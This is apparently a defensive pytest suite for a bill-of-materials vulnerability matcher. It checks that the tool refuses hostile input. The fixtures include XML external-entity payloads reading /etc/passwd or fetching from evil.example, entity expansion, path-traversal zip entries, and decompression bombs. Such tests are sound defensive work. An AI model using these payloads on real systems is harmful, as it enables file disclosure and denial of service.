"""Hostile and broken input to the offline verbs, by its number in our list of faults: located, bounded."""

import gzip
import io
import json
import socket
import struct
import time
import zipfile
import zlib
from typing import Any

import pytest
import zstandard
from tests.edge.scene import Desk, between, bill, osv
from tests.edge.test_products import cve, thing

GATE = osv("PYSEC-1", "gate", *between("1.0", "2.0"))
FILE = "file:///etc/passwd"
XML = '<bom xmlns="http://cyclonedx.org/schema/bom/1.5" version="1"{}><components>{}</components></bom>'
PART = '<component type="library"><name>{}</name><version>1.5</version><purl>pkg:pypi/gate@1.5</purl></component>'
SPDX: dict[str, Any] = {"spdxVersion": "SPDX-2.3", "SPDXID": "SPDXRef-DOCUMENT", "name": "x"}
SPDX["documentNamespace"] = "urn:x"


def zipped(*entries: tuple[str, bytes]) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries:
            archive.writestr(name, content)
    return target.getvalue()


def answered(desk: Desk, content: bytes, name: str = "list") -> int:
    """Match raw bytes; an exit code of 2 comes with one sentence and no answer."""
    listed = desk.put(name, content)
    code = desk.run("match", listed, "--snapshot", str(desk.folder / "snapshot"), "--format", "json")
    assert (code == 2) == (not desk.out)
    assert code != 2 or desk.err.startswith("watchbell: ")
    return code


@pytest.mark.parametrize(
    ("events", "versions"),
    [
        ([{"fixed": "2.0"}], []),
        ([{"introduced": "1.0"}, {"fixed": "1.4"}, {"last_affected": "1.6"}], []),
        ([{"introduced": "what?"}], []),
        ([], []),
        ([{"fixed": "1.4"}, {"introduced": "1.0"}, {"introduced": "1.5"}], []),
        ([], [f"1.{at}" for at in range(20_000)]),
    ],
)
def test_in_12_odd_osv_events_follow_the_rule_or_are_open_and_never_not_affected(
    desk: Desk, events: list[dict[str, str]], versions: list[str]
) -> None:
    record = osv("PYSEC-1", "gate")
    record["affected"][0] |= {"versions": versions, "ranges": [{"type": "ECOSYSTEM", "events": events}] * bool(events)}
    desk.build(record)

    code, answer = desk.match(bill("pkg:pypi/gate@1.5"))

    assert code in (1, 4)
    assert [one["status"] for one in answer["matches"]] in (["affected"], ["undetermined"])


def test_in_12_an_ecosystem_nobody_knows_is_never_clean(desk: Desk) -> None:
    desk.build(osv("X-1", "gate", *between("1.0", "2.0"), ecosystem="Cobol"), GATE)

    assert desk.match(bill("pkg:cobol/gate@1.5"))[0] == 4


@pytest.mark.parametrize(
    "text",
    [
        f'<!DOCTYPE bom [<!ENTITY x SYSTEM "{FILE}">]>' + XML.format("", PART.format("&x;")),
        '<!DOCTYPE bom [<!ENTITY % x SYSTEM "http://evil.example/x"> %x;]>' + XML.format("", PART.format("gate")),
        '<!DOCTYPE bom [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]>' + XML.format("", PART.format("&b;")),
        XML.format("", f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{FILE}"/>{PART.format("gate")}'),
        XML.format(' xmlns:i="http://www.w3.org/2001/XMLSchema-instance" i:schemaLocation="a http://evil.example/a"',
                   PART.format("gate")),
    ],
)  # fmt: skip
def test_in_14_xml_that_asks_for_other_files_is_refused_or_read_as_text_and_opens_nothing(
    desk: Desk, monkeypatch: pytest.MonkeyPatch, text: str
) -> None:
    desk.build(GATE)
    monkeypatch.setattr(socket, "socket", lambda *given, **named: pytest.fail("it went to the network"))

    code = answered(desk, text.encode(), "bom.xml")

    assert code == (2 if "DOCTYPE" in text else 1)
    assert "root:" not in desk.out + desk.err


def test_in_15_cycles_double_references_many_components_and_endless_package_urls_all_end(desk: Desk) -> None:
    desk.build(GATE)
    deep: dict[str, Any] = {"type": "library", "name": "leaf"}
    for _ in range(40):
        deep = {"type": "library", "name": "n", "components": [deep]}
    endless = "pkg:pypi/gate@1.5?" + "&".join(f"q{at}=1" for at in range(100_000))
    parts: list[dict[str, Any]] = [{"type": "library", "bom-ref": "same", "name": f"c{at}"} for at in range(2)]
    parts += [{"type": "library", "bom-ref": "twin", "name": "twin"}] * 2
    parts += [deep, {"type": "library", "name": "endless", "purl": endless}]
    parts += [{"type": "library", "name": f"m{at}", "purl": f"pkg:pypi/m{at}@1"} for at in range(2_000)]
    circle = [{"ref": "a", "dependsOn": ["b"]}, {"ref": "b", "dependsOn": ["a"]}]

    code, answer = desk.match(bill(components=parts, dependencies=circle))

    assert (code, answer["components"]) == (4, 2 + 1 + 41 + 1 + 2_000)
    assert "back to themselves" in desk.err


def test_in_15_nesting_without_an_end_is_refused_with_its_place(desk: Desk) -> None:
    desk.build(GATE)

    code = answered(desk, b'{"bomFormat": "CycloneDX", "specVersion": "1.6", "components": [' * 10_000)

    assert code == 2
    assert "line 1 column" in desk.err


@pytest.mark.parametrize(
    "content",
    [
        json.dumps(SPDX | {"packages": []}).encode()[:-20],
        b"SPDXVersion: SPDX-2.3\nDataLicense: CC0-1.0\nPackageName: <text>never ends",
        json.dumps(SPDX).encode("utf-16"),
        b"SPDXVersion: SPDX-2.3\nPackageName: \xff\xfe\n",
    ],
)
def test_in_16_cut_or_wrongly_encoded_spdx_says_where_and_is_never_clean(desk: Desk, content: bytes) -> None:
    desk.build(GATE)

    code = answered(desk, content)

    assert code in (2, 4)
    assert "line " in desk.err or "UTF-8" in desk.err


def test_in_16_a_hundred_thousand_relationships_and_a_deep_licence_cost_nothing(desk: Desk) -> None:
    desk.build(GATE)
    url = {"referenceCategory": "PACKAGE-MANAGER", "referenceType": "purl", "referenceLocator": "pkg:pypi/gate@1.5"}
    package = {"name": "gate", "SPDXID": "SPDXRef-1", "versionInfo": "1.5", "externalRefs": [url]}
    package["licenseConcluded"] = "(" * 10_000 + "MIT" + ")" * 10_000
    one = {"spdxElementId": "SPDXRef-1", "relationshipType": "CONTAINS", "relatedSpdxElement": "SPDXRef-1"}
    began = time.process_time()

    code, answer = desk.match(SPDX | {"packages": [package], "relationships": [one] * 100_000})

    assert (code, answer["components"]) == (1, 1)
    assert time.process_time() - began < 10


def test_in_17_a_list_of_bare_names_says_how_many_cannot_be_matched(desk: Desk) -> None:
    desk.build(GATE)
    held = bill(components=[{"type": "file", "name": f"lib{at}.so"} for at in range(3)])
    listed = desk.put("list.json", held)

    code = desk.run("match", listed, "--snapshot", str(desk.folder / "snapshot"))

    assert code == 4
    assert "Cannot assess 3 of 3: no package identity 3." in desk.out
    assert "0 of 3 assessed" in desk.out


def test_in_18_what_a_commenting_publisher_adds_never_overrules_and_an_unknown_order_is_open(desk: Desk) -> None:
    record = cve()
    other = {"vendor": "Acme", "product": "Gate", "defaultStatus": "affected", "versions": []}
    record["containers"]["adp"] = [{"providerMetadata": {"orgId": "b", "shortName": "ADP"}, "affected": [other]}]
    desk.build(record)
    contradicted = desk.match(thing(version="2.0", supplier={"name": "Acme"}))[1]["candidates"]
    zero = {"version": "0 < *", "status": "affected", "versionType": "custom"}
    desk.build(cve(versions=[zero], packageURL="pkg:pypi/gate"))
    everything, _ = desk.match(bill("pkg:pypi/gate@1.5"))
    strange = {"version": "1", "lessThan": "2", "status": "affected", "versionType": "phases of the moon"}
    desk.build(cve(versions=[strange]))

    unknown = desk.match(thing(supplier={"name": "Acme"}))[1]["candidates"]

    assert contradicted == []
    assert everything in (1, 4)
    assert [one["status"] for one in unknown] == ["undetermined"]


LISTED = json.dumps(bill("pkg:pypi/gate@1.5")).encode()
_TRUE = zipped(("a.json", LISTED))
ARCHIVES = {
    "bomb": zipped(("a.json", b" " * 300_000_000)),
    "out of the folder": zipped(("../a.json", LISTED)),
    "absolute": zipped(("/tmp/a.json", LISTED)),
    "lying size": _TRUE.replace(struct.pack("<I", len(LISTED)), struct.pack("<I", 10)),
    "other name in the directory": _TRUE.replace(b"a.json", b"b.json", 1),
    "cut": _TRUE[:-30],
    "many": zipped(*((f"{at}.json", b"{}") for at in range(70_000))),
}


@pytest.mark.parametrize("kind", ARCHIVES)
def test_in_20_an_archive_that_lies_is_refused_and_writes_nothing(desk: Desk, kind: str) -> None:
    desk.build(GATE)
    before = {one for one in desk.folder.rglob("*") if "cache" not in one.parts}

    code = answered(desk, ARCHIVES[kind], "list.zip")

    after = {one for one in desk.folder.rglob("*") if "cache" not in one.parts}
    assert code == 2
    assert after - before <= {desk.folder / "list.zip", desk.folder / "home"}


@pytest.mark.parametrize(
    ("pack", "code"),
    [
        (lambda: gzip.compress(LISTED), 1),
        (lambda: zstandard.compress(LISTED), 1),
        (lambda: gzip.compress(gzip.compress(LISTED)), 2),
        (lambda: gzip.compress(b" " * 300_000_000, 1), 2),
        (lambda: zstandard.compress(b" " * 300_000_000), 2),
        (lambda: gzip.compress(LISTED)[:-9], 2),
        (lambda: zlib.compress(LISTED), 2),
    ],
)
def test_in_21_packed_lists_are_read_and_bombs_are_refused_soon(desk: Desk, pack: Any, code: int) -> None:
    desk.build(GATE)
    content = pack()
    began = time.process_time()

    assert answered(desk, content, "list.json.gz") == code
    assert time.process_time() - began < 5


@pytest.mark.parametrize("piece", ["1.", "a-", "%2", "\\", ":", "(", "0", "1a", "é", "pkg:", "cpe:2.3:"])
def test_ov_09_twice_the_text_takes_at_most_twice_as_long_in_every_field(desk: Desk, piece: str) -> None:
    desk.build(GATE, cve(cpes=["cpe:/a:acme:gate"]))

    def spent(count: int) -> float:
        text = piece * count
        one = {"type": "library", "name": text, "version": text, "purl": f"pkg:pypi/{text}", "cpe": f"cpe:2.3:a:{text}"}
        held = desk.put("list.json", bill(components=[one | {"supplier": {"name": text}}]))
        began = time.process_time()
        desk.run("match", held, "--snapshot", str(desk.folder / "snapshot"), "--format", "csv")
        return time.process_time() - began

    short, double = min(spent(30_000) for _ in range(3)), min(spent(60_000) for _ in range(3))

    assert double < 3 * short + 0.05
